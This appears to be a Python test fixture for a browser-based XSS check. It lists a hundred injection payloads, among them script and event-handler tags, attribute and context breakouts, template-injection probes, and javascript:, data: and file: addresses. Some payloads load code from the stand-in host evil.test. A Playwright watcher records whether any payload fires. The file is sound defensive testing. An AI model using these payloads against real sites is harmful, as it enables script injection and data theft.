"""A hundred texts that would run a script, load something or break out, wherever they are not shown as the texts they are.

What gets through calls `pwned`, opens a dialog, asks a host of EVIL for something, or is reported by the page's policy.
"""

from __future__ import annotations

from collections.abc import Sequence
from typing import Any

EVIL = "evil.test"

_TAGS = (
    "<script>pwned(1)</script>",
    "</script><script>pwned(2)</script>",
    "<ScRiPt >pwned(3)</sCrIpT >",
    "<scr<script>ipt>pwned(4)</scr</script>ipt>",
    f"<script src=//{EVIL}/5.js></script>",
    f'<script type="module">import "https://{EVIL}/6.js"</script>',
    "<script\n>pwned(7)</script\n>",
    "<script/x>pwned(8)</script>",
    "<svg><script>pwned(9)</script></svg>",
    "<svg><script href=data:,pwned(10) />",
    "<!--<script>pwned(11)//--><script>pwned(11)</script>",
    "<![CDATA[><script>pwned(12)</script>]]>",
    "<img src=x onerror=pwned(13)>",
    '<img src="x" onerror="pwned(14)">',
    "<img src=x:x onerror\n=\npwned(15)>",
    "<img/src=x/onerror=pwned(16)//",
    '<img """><script>pwned(17)</script>">',
    f"<img src=//{EVIL}/18.png>",
    "<image src=x onerror=pwned(19)>",
    "<svg onload=pwned(20)>",
    "<svg/onload=pwned(21)//",
    "<svg><animate onbegin=pwned(22) attributeName=x dur=1s>",
    "<svg><set onbegin=pwned(23) attributename=x></svg>",
    "<svg><a xlink:href=javascript:pwned(24)><text y=20>24</text></a></svg>",
    "<svg><foreignObject><body onload=pwned(25)></foreignObject></svg>",
    f"<svg><use href=//{EVIL}/26.svg#x></use></svg>",
    "<body onload=pwned(27)>",
    "<body onpageshow=pwned(28)>",
    "<details open ontoggle=pwned(29)>",
    "<video><source onerror=pwned(30)></video>",
    "<audio src=x onerror=pwned(31)>",
    "<video poster=javascript:pwned(32)//></video>",
    "<input autofocus onfocus=pwned(33)>",
    "<select autofocus onfocus=pwned(34)>",
    "<marquee onstart=pwned(35)>",
    '<iframe src="javascript:pwned(36)"></iframe>',
    '<iframe srcdoc="<script>parent.pwned(37)</script>"></iframe>',
    f"<iframe src=//{EVIL}/38></iframe>",
    '<object data="javascript:pwned(39)"></object>',
    '<embed src="javascript:pwned(40)">',
    f"<link rel=stylesheet href=//{EVIL}/41.css>",
    f'<meta http-equiv="refresh" content="0;url=//{EVIL}/42">',
    f"<base href=//{EVIL}/43/>",
    f'<form action="//{EVIL}/44"><button autofocus>44</button></form>',
    "<button formaction=javascript:pwned(45)>45</button>",
    f"<style>*{{background:url(//{EVIL}/46.png)}}</style>",
    f"<style>@import '//{EVIL}/47.css';</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned(48)></style></mglyph></table></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=pwned(49)>">',
    "<template><script>pwned(50)</script></template>",
)
_BREAKS = (
    '"><script>pwned(51)</script>',
    "'><script>pwned(52)</script>",
    '" onmouseover="pwned(53)" autofocus onfocus="pwned(53)" x="',
    "' onmouseover='pwned(54)' autofocus onfocus='pwned(54)' x='",
    "` onmouseover=pwned(55) autofocus onfocus=pwned(55) x=`",
    "</title><script>pwned(56)</script>",
    "</textarea><script>pwned(57)</script>",
    "</style><script>pwned(58)</script>",
    "</select><img src=x onerror=pwned(59)>",
    "--><script>pwned(60)</script><!--",
    "]]><script>pwned(61)</script>",
    '";pwned(62);//',
    "';pwned(63);//",
    "\\';pwned(64);//",
    "`;pwned(65);`",
    "${pwned(66)}",
    "{{constructor.constructor('pwned(67)')()}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "<%= 7 * 7 %>",
    "#{7*7}",
    "&lt;script&gt;pwned(72)&lt;/script&gt;",
    "&#60;img src=x onerror=pwned(73)&#62;",
    "%3Cscript%3Epwned(74)%3C/script%3E",
    "\\u003cscript\\u003epwned(75)\\u003c/script\\u003e",
    "\u2028pwned(76)\u2029",
    "\u202e<script>pwned(77)</script>\u202c",
    "\ufeff<img src=x onerror=pwned(78)>",
    '<div hx-get="/" hx-trigger="load" hx-on:htmx:load="pwned(79)" data-hx-on="pwned(79)">79</div>',
    '"}],"__proto__":{"pwned":80}}',
)
ADDRESSES: tuple[str, ...] = (
    "javascript:pwned(81)",
    "JaVaScRiPt:pwned(82)",
    " javascript:pwned(83)",
    "java\tscript:pwned(84)",
    "java\nscript:pwned(85)",
    "\u0001javascript:pwned(86)",
    "javascript://acme.test/%0apwned(87)",
    "javascript:/*--></title></style></script><svg onload=pwned(88)>*/pwned(88)",
    "jav&#x61;script:pwned(89)",
    "javascript&colon;pwned(90)",
    "data:text/html,<script>pwned(91)</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCg5Mik8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwned(93)'/>",
    "data:text/javascript,pwned(94)",
    "vbscript:pwned(95)",
    "blob:https://acme.test/96",
    "view-source:javascript:pwned(97)",
    "file:///etc/passwd#98",
    'https://acme.test/"onmouseover="pwned(99)',
    "https://acme.test/'><script>pwned(100)</script>",
)
PAYLOADS: tuple[str, ...] = (*_TAGS, *_BREAKS, *ADDRESSES)

# Before the page's own scripts: `page.add_init_script(LISTENING)`.
LISTENING = """
window.caught = [];
window.pwned = (n) => { caught.push(`payload ${n} has run`); };
for (const name of ['alert', 'confirm', 'prompt', 'print']) window[name] = () => { caught.push(`${name} was called`); };
addEventListener('securitypolicyviolation', (event) => {
    caught.push(`${event.effectiveDirective} refused ${event.blockedURI} ${event.sample}`);
});
"""


class Watched:
    """A page of Playwright, watched from before it is opened for anything that a payload could bring about."""

    def __init__(self, page: Any) -> None:
        self._page = page
        self._asked: list[str] = []
        page.add_init_script(LISTENING)
        page.on("request", lambda request: self._asked.append(request.url))
        page.on("dialog", lambda dialog: (self._asked.append(f"{EVIL} dialog"), dialog.dismiss()))

    def caught(self) -> Sequence[str]:
        """Whatever happened that must not; empty where all is well."""
        found: list[str] = self._page.evaluate("window.caught")
        return [*found, *(f"asked for {url}" for url in self._asked if EVIL in url.split("?")[0])]
